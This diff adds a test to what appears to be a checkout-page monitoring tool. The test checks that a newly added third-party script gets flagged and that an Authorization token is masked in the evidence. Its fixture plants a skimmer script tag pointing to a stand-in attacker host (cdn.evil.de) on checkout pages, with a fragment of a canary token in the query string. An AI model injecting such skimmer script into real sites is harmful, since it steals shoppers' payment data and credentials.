@@ -235,6 +235,24 @@ def test_headers_of_the_request_go_to_one_origin(modules: Modules, site: Site) -
     assert {method for method, _path, _headers in [*site.requests, *other.requests]} == {"GET"}
 
 
+def test_variant_of_a_page_is_no_secret(modules: Modules, site: Site, tmp_path: Path, zone: str) -> None:
+    """What says which variant of a page is asked for stands in addresses and sentences, too: only a credential is masked there."""
+    secret = "Bearer c4nary-of-a-page"
+    skimmer = "https://cdn.evil.de/skim.js"
+    urls = [site.put(f"/{language}/checkout", f"<script src={skimmer}?{secret[-12:]}></script>") for language in ("de", "en")]
+    pages = [
+        {"url": url, "request_headers": {"Accept-Language": language, "X-Env": "new", "X-Audit": "1", "Authorization": secret}}
+        for url, language in zip(urls, ("de", "en"), strict=True)
+    ]
+    result = modules.run(task("", pages=pages, evidence_dir=str(tmp_path)), secrets=[secret]).result
+    found = [(finding["kind"], finding["page"]) for finding in result["findings"]]
+    assert found == [(kind, url) for kind in ("page_new", "script_new") for url in urls]
+    record = json.loads((tmp_path / f"{zone}.pages.jsonl").read_text())
+    assert record["scope"]["pages"] == [page["url"] for page in record["pages"]] == urls
+    assert [page["scripts"][0]["url"].partition("?")[0] for page in (*record["pages"], *result["pages"])] == [skimmer] * 4
+    assert "does not authorise" in result["findings"][2]["message"] or "no entry authorises" in result["findings"][2]["message"]
+
+
 def test_evidence_does_not_change_by_itself(modules: Modules, site: Site, tmp_path: Path, zone: str) -> None:
     numbers = iter(range(1000))
     site.pages["/checkout"] = lambda: Page(
